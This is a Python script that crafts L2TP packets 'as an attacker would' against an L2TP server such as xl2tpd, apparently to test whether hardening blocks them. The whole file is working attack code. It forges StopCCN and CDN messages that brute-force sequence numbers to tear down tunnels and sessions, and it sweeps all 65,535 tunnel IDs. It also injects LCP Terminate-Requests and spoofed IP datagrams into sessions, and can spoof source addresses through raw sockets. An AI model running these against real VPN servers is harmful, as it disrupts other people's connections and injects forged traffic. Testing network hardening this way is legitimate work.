#!/usr/bin/python3
"""Sends L2TP as an attacker would, and counts what comes back. RFC 2661 sections 3.1, 4.4, 5.1; RFC 1661 section 5.5.

  l2tp.py [--sport N] [--bind ADDR] [--source ADDR] [--mark N] [--shared] [--count N] [--wait S] DESTINATION MESSAGE...

  sccrq                          a good Start-Control-Connection-Request, Assigned Tunnel ID 4711
  stopccn:T  cdn:T:S  hello:T    to tunnel T (session S), once for each Ns of 0..15, so that one of them is in sequence
  term:T:S                       LCP Terminate-Request as data of session S
  ip:T:S:SOURCE:DESTINATION      as data of session S: a UDP datagram to port 9 with the text INJECTED
  sweep                          stopccn with one Ns for each tunnel id 1..65535

DESTINATION may be IPv6. --source: a raw socket that claims this address (IPv4). --shared: the port is also xl2tpd's; nothing is received then.
--count: each message N times. --wait: seconds after the last message in which an answer would count.
Prints "sent N answered M"; a datagram the kernel refuses to send counts as "stopped".
"""
import argparse, select, socket, struct, time

parser = argparse.ArgumentParser()
parser.add_argument('--sport', type=int, default=1701)
parser.add_argument('--bind', default='')
parser.add_argument('--source')
parser.add_argument('--mark', type=int)
parser.add_argument('--shared', action='store_true')
parser.add_argument('--count', type=int, default=1)
parser.add_argument('--wait', type=float, default=2)
parser.add_argument('destination')
parser.add_argument('messages', nargs='+')
args = parser.parse_args()


def avp(kind, value):
    return struct.pack('!HHH', 0x8000 | 6 + len(value), 0, kind) + value


def control(tunnel, session, ns, nr, avps):
    return struct.pack('!HHHHHH', 0xC802, 12 + len(avps), tunnel, session, ns, nr) + avps


def message(kind, *avps):
    return avp(0, struct.pack('!H', kind)) + b''.join(avps)


def data(tunnel, session, protocol, information):
    frame = struct.pack('!HH', 0xFF03, protocol) + information
    return struct.pack('!HHHH', 0x4002, 8 + len(frame), tunnel, session) + frame


def checksum(octets):
    total = sum(struct.unpack(f'!{len(octets) // 2}H', octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(sport, dport, payload):
    return struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload


def ipv4(source, destination, payload):
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 1, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(destination))
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload


ASSIGNED = avp(9, struct.pack('!H', 4711))
SCCRQ = message(1, avp(2, b'\x01\x00'), avp(3, struct.pack('!I', 3)), avp(7, b'intruder'), ASSIGNED, avp(10, b'\x00\x04'))
STOPCCN = message(4, ASSIGNED, avp(1, struct.pack('!H', 1)))
CDN = message(14, avp(1, struct.pack('!H', 3)), avp(14, struct.pack('!H', 1)))


def datagrams(text):
    word, *fields = text.split(':')
    if word == 'sccrq':
        return [control(0, 0, 0, 0, SCCRQ)]
    if word == 'sweep':
        return [control(tunnel, 0, 4, 2, STOPCCN) for tunnel in range(1, 65536)]
    tunnel = int(fields[0])
    # xl2tpd's Ns is 4 after its SCCRQ, SCCCN, ICRQ and ICCN, and 1 more after each HELLO; ours has sent 2.
    if word == 'stopccn':
        return [control(tunnel, 0, ns, 2, STOPCCN) for ns in range(16)]
    if word == 'cdn':
        return [control(tunnel, int(fields[1]), ns, 2, CDN) for ns in range(16)]
    if word == 'hello':
        return [control(tunnel, 0, ns, 2, message(6)) for ns in range(16)]
    session = int(fields[1])
    if word == 'term':
        return [data(tunnel, session, 0xC021, struct.pack('!BBH', 5, 99, 4))]
    if word == 'ip':
        return [data(tunnel, session, 0x0021, ipv4(fields[2], fields[3], udp(9, 9, b'INJECTED')))]
    raise SystemExit(f'l2tp.py: no message {text}')


receiver = None
if args.source:
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
else:
    family = socket.AF_INET6 if ':' in args.destination else socket.AF_INET
    receiver = sender = socket.socket(family, socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sender.bind((args.bind, args.sport))
if args.shared:
    receiver = None
if args.mark:
    sender.setsockopt(socket.SOL_SOCKET, 36, args.mark)  # SO_MARK

sent = stopped = answered = 0
for text in args.messages:
    for datagram in datagrams(text) * args.count:
        try:
            if args.source:
                packet = ipv4(args.source, args.destination, udp(args.sport, 1701, datagram))
                sender.sendto(packet, (args.destination, 0))
            else:
                sender.sendto(datagram, (args.destination, 1701))
            sent += 1
        except PermissionError:
            stopped += 1
until = time.monotonic() + args.wait
while receiver and select.select([receiver], [], [], max(0, until - time.monotonic()))[0]:
    receiver.recvfrom(65536)
    answered += 1
print(f'sent {sent} answered {answered}' + (f' stopped {stopped}' if stopped else ''))
